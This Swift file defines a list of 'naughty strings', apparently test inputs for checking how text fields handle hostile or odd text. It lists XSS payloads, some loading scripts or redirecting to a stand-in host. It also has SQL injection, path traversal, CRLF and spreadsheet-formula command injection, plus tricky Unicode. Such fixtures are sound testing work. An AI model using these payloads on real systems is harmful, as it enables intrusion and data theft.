/// Texts that have hurt programs: markup that would run, quotes that would end something, letters that turn or pile up.
/// What runs calls `canary`.
enum NaughtyStrings {
    /// What a field is given: texts written one by one, and those made kind by kind, several to a text.
    static let all = written + bundled

    static let written = markup + syntax + letters

    private static let markup = [
        "<script>canary()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=canary()>",
        "<img src=\"javascript:canary()\">", "\"><svg onload=canary()>", "'><svg/onload='canary()'>",
        "<svg><script>canary()</script></svg>", "<svg><animate onbegin=canary() attributeName=x>",
        "<body onload=canary()>", "<details open ontoggle=canary()>x</details>", "<input autofocus onfocus=canary()>",
        "<select autofocus onfocus=canary()>", "<video src=x onerror=canary()>", "<a href=javascript:canary()>länk</a>",
        "<a href=\"data:text/html,<script>canary()</script>\">x</a>", "<iframe srcdoc='<script>canary()</script>'>",
        "<iframe src=javascript:canary()>", "<object data=javascript:canary()>", "<embed src=javascript:canary()>",
        "</textarea><script>canary()</script>", "</title><script>canary()</script>",
        "</select><img src onerror=canary()>",
        "</p></li></ul></section><script>canary()</script>", "--><script>canary()</script><!--",
        "<!--<img src=--><img src onerror=canary()>",
        "]]><script>canary()</script>", "<math><mtext></mtext><script>canary()</script></math>",
        "<noscript><p title=\"</noscript><img src onerror=canary()>\">",
        "<form action=//evil.example><button>x</button></form>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/a.css';</style>",
        "<p style=\"background:url(//evil.example/b)\">x</p>", "&lt;script&gt;canary()&lt;/script&gt;",
        "&#60;script&#62;canary()",
        "&amp;&lt;&gt;&quot;&#39;", "%3Cscript%3Ecanary()%3C/script%3E",
        "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
        "{{constructor.constructor('canary()')()}}", "${canary()}", "`${canary()}`", "javascript:canary()",
        "\" onmouseover=canary() x=\"", "' autofocus onfocus=canary() x='", "x onerror=canary()",
    ]

    private static let syntax = [
        "\"", "'", "`", "\\", "\\\\", "\"\"\"", "'; DROP TABLE event; --", "1' OR '1'='1",
        "\" UNION SELECT body FROM event --",
        "%", "_", "%s%s%n%x", "%00", "%0d%0aSet-Cookie: x=y", "../../../../etc/passwd", "C:\\CON", "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1)", "+46", "-5 procent", "NaN", "Infinity", "0x1F", "1e309", "null", "undefined", "true", "__proto__",
        "constructor", "toString", "[object Object]", "#fel", "?andra=K1", "rad ett\nrad två", "a\tb",
    ]

    private static let letters = [
        "åäö ÅÄÖ é", "A\u{30A} fri stavning", "\u{202E}bakvänt\u{202C} igen", "\u{2066}inne\u{2069}", "mjuk\u{AD}delad",
        "smal\u{200B}fog",
        "\u{FEFF}märke", "rad\u{2028}delare", "👩‍👩‍👧‍👦 🏳️‍🌈 🇸🇪", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
        "田中さんにあげて下さい", "الحقوق المتساوية", "שוויון", "ｆｕｌｌ", "𝕬𝖑𝖑𝖆", "﷽", "ß ẞ ı İ", "½ ² №", "Sámi čáhci", "…—–’”»",
    ]
}
